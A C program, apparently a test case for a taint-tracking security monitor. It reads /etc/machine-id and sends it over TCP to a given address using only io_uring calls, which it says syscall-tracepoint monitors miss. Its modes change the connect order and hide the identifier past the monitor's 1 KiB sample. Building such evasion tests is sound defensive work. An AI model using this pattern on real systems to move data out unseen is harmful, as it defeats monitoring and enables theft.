// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/* uring_leak: reads /etc/machine-id and sends it to ADDR:PORT using io_uring only (open, read,
 * connect, send), the path syscall-tracepoint monitors do not see. With a third argument, "send"
 * or "write", it connects (connect(2)) before it reads the identifier, then sends with that
 * io_uring op: a connection made before the taint. With "long", it sends 3,000 bytes with the
 * identifier 2,000 bytes in: past the first sample (1 KiB by default). */
#include <arpa/inet.h>
#include <fcntl.h>
#include <liburing.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int run(struct io_uring *ring, struct io_uring_sqe *sqe)
{
	struct io_uring_cqe *cqe;
	int res;

	(void)sqe;
	if (io_uring_submit(ring) < 0 || io_uring_wait_cqe(ring, &cqe) < 0)
		return -1;
	res = cqe->res;
	io_uring_cqe_seen(ring, cqe);
	return res;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct io_uring ring;
	struct io_uring_sqe *sqe;
	const char *mode = argc == 4 ? argv[3] : NULL;
	int longsend = mode && !strcmp(mode, "long");
	const char *early = longsend ? NULL : mode;
	static char big[3000];
	char buf[128];
	int fd, sock = -1, n;

	if (argc < 3 || argc > 4 || inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1)
		return 2;
	sa.sin_port = htons(atoi(argv[2]));
	if (io_uring_queue_init(8, &ring, 0))
		return 3;
	if (early) {
		sock = socket(AF_INET, SOCK_STREAM, 0);
		if (connect(sock, (struct sockaddr *)&sa, sizeof(sa)))
			return 4;
	}
	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_openat(sqe, AT_FDCWD, "/etc/machine-id", O_RDONLY, 0);
	fd = run(&ring, sqe);
	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_read(sqe, fd, buf, sizeof(buf), 0);
	n = run(&ring, sqe);
	if (fd < 0 || n <= 0)
		return 4;
	if (!early) {
		sock = socket(AF_INET, SOCK_STREAM, 0);
		sqe = io_uring_get_sqe(&ring);
		io_uring_prep_connect(sqe, sock, (struct sockaddr *)&sa, sizeof(sa));
		if (run(&ring, sqe) < 0)
			return 4;
	}
	sqe = io_uring_get_sqe(&ring);
	if (longsend) {
		memset(big, 'z', sizeof(big));
		memcpy(big + 2000, buf, n);
		n = sizeof(big);
		io_uring_prep_send(sqe, sock, big, n, 0);
	} else if (early && !strcmp(early, "write")) {
		io_uring_prep_write(sqe, sock, buf, n, 0);
	} else {
		io_uring_prep_send(sqe, sock, buf, n, 0);
	}
	if (run(&ring, sqe) != n)
		return 5;
	printf("%d\n", getpid());
	io_uring_queue_exit(&ring);
	return 0;
}
